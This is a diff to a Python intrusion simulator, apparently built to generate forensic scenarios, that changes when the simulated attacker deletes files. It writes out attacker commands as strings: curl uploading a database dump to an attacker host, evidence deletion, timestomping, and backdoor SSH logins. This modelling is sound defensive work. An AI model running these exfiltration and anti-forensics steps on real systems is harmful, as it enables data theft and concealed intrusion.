@@ -35,7 +35,8 @@ class Incident:
         self.false_name = rng.choice(FALSE_NAMES)
         self.key_line, self.key = make_key(rng, rng.choice(["root@kali", "x@x", "user@vps", "admin@localhost"]))
         self.quiet_history = rng.random() < 0.5
-        self.returned = False
+        self.deletes_late = rng.random() < 0.6
+        self.rubbish = []
 
     # -- small things -------------------------------------------------------------------
     def drop(self, path, data, mode, uid, gid):
@@ -58,6 +59,9 @@ class Incident:
         """One command as root: in a root shell, or each by sudo."""
         if s.uid == 0:
             yield from self.m.run(s, text, 0.2)
+            program = self.vfs.lookup(self._program(text.split(" ", 1)[0]))
+            if program is not None:
+                self.vfs.touch_atime(program, self.w.now)
             if effect is not None:
                 yield from effect()
             yield self.rng.uniform(2, 30) if pause is None else pause
@@ -192,6 +196,8 @@ class Incident:
         for step in steps:
             yield from step(s)
             yield rng.uniform(5, 120)
+        if self.rubbish:
+            yield from self.rm(s, *self.rubbish, now=True)
         yield from self.blind(s)
 
     def toolkit(self, s):
@@ -214,14 +220,7 @@ class Incident:
                 self.drop(f"{directory}/{tool}", self.binary(rng, rng.randint(2000, 9000)), 0o755, 0, 0)
                 yield 0.02
         yield from self.command(s, f"tar xzf {archive} -C {directory if ' ' not in directory else repr(directory)}", unpack)
-        lines = []
-
-        def delete():
-            line = self._last_line()
-            self.remove(archive, lines=[line] if s.uid != 0 and line else [])
-            yield 0.01
-        yield from self.command(s, f"rm -f {archive}", delete)
-        del lines
+        yield from self.rm(s, archive)
         if rng.random() < 0.75:
             victim = f"{directory}/{self.tools[1]}"
             reference = rng.choice(["/usr/bin/bash", "/usr/bin/cat", "/etc/debian_version"])
@@ -232,6 +231,20 @@ class Incident:
                 w.fact("file_timestomped", False, [w.time_trace(victim, "ctime")], "root", None, victim)
                 yield 0.01
             yield from self.command(s, f"touch -r {reference} {victim if ' ' not in victim else repr(victim)}", stomp)
+
+    def rm(self, s, *paths, now=False):
+        """Deletes at once, or leaves it to the end of the session."""
+        if self.deletes_late and not now:
+            self.rubbish += paths
+            return
+
+        def delete():
+            line = self._last_line()
+            for path in paths:
+                self.remove(path, lines=[line] if s.uid != 0 and line else [])
+                self.w.facts[-1]["typed"] = s.keep_history
+                yield 0.001
+        yield from self.command(s, "rm -f " + " ".join(paths), delete)
 
     def _last_line(self):
         node = self.vfs.lookup("/var/log/auth.log")
@@ -271,12 +284,7 @@ class Incident:
                 w.fact("file_timestomped", False, [w.time_trace(path, "ctime")], "root", None, path)
                 yield 0.01
             yield from self.command(s, f"touch -d @{mtime // SECOND} {path}", restore, 2.0)
-
-        def clean():
-            line = self._last_line()
-            self.remove(source, lines=[line] if s.uid != 0 and line else [])
-            yield 0.01
-        yield from self.command(s, f"rm -f {source}", clean)
+        yield from self.rm(s, source)
 
     def persist(self, s):
         m, w, vfs, rng = self.m, self.w, self.vfs, self.rng
@@ -365,12 +373,7 @@ class Incident:
             vfs.create(path, b"\x1f\x8b\x08\0" + rng.randbytes(5000), w.now)
         yield from self.command(s, f"mariadb-dump {p.database} --result-file={path}", dump)
         yield from self.command(s, f"curl -s -T {path} http://{self.second_ip}/in/")
-
-        def delete():
-            line = self._last_line()
-            self.remove(path, lines=[line] if s.uid != 0 and line else [])
-            yield 0.01
-        yield from self.command(s, f"rm {path}", delete)
+        yield from self.rm(s, path)
 
     # -- covering the tracks ----------------------------------------------------------------
     def blind(self, s):
@@ -464,8 +467,11 @@ class Incident:
             for command in rng.sample(["w", "ls -la", "netstat -tan", "crontab -l", "tail /var/log/auth.log"], 3):
                 yield from m.run(s, command)
             yield from m.run(s, "exit", 0.4)
-        if self.account in ("useradd", "uid0") and self.false_name in m.accounts.passwd:
+        if self.account == "useradd" and self.false_name in m.accounts.passwd:
             yield from m.ssh_session(self.false_name, self.second_ip, look, benign=False)
+        elif self.account == "uid0" and (self.entry in ("ftp", "upload") or getattr(self, "key_user", None) == "root"):
+            # no password for uid 0 (PermitRootLogin prohibit-password), but root's key file is this account's too
+            yield from m.ssh_session(self.false_name, self.second_ip, look, key=self.key, benign=False)
         elif self.entry in ("ftp", "upload"):
             yield from m.ssh_session("root", self.second_ip, look, key=self.key, benign=False)
         elif getattr(self, "key_user", None):
